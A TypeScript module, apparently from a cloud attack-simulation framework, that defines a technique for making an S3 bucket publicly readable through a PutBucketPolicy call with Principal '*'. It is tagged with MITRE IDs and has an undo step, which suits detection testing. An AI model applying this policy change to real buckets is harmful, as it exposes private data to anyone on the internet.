import { z } from 'zod';
import { putBackBucketPolicy } from '../../../put-back-bucket-policy.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** Opens the door to everybody, so that nobody in particular walks through. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'collection.bucket-policy-opened',
  title: 'Make a bucket readable by everybody',
  purpose: 'The data is taken later, without a key and from anywhere.',
  mitre: ['T1530', 'T1098'],
  sources: [
    {
      title: 'Data from Cloud Storage, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1530/',
    },
    {
      title: 'PutBucketPolicy, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketPolicy.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: {} },
  needs: ['s3:PutBucketPolicy'],
  leaves: [{ service: 's3.amazonaws.com', name: 'PutBucketPolicy', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { bucket }, aws, say }) {
    say(`Let everybody read ${bucket}`);
    const Statement = [
      {
        Sid: 'Website',
        Effect: 'Allow',
        Principal: '*',
        Action: ['s3:GetObject', 's3:ListBucket'],
        Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
      },
    ];
    await aws.s3().putBucketPolicy({
      Bucket: bucket,
      Policy: JSON.stringify({ Version: '2012-10-17', Statement }),
    });
  },
  undo: putBackBucketPolicy(),
};
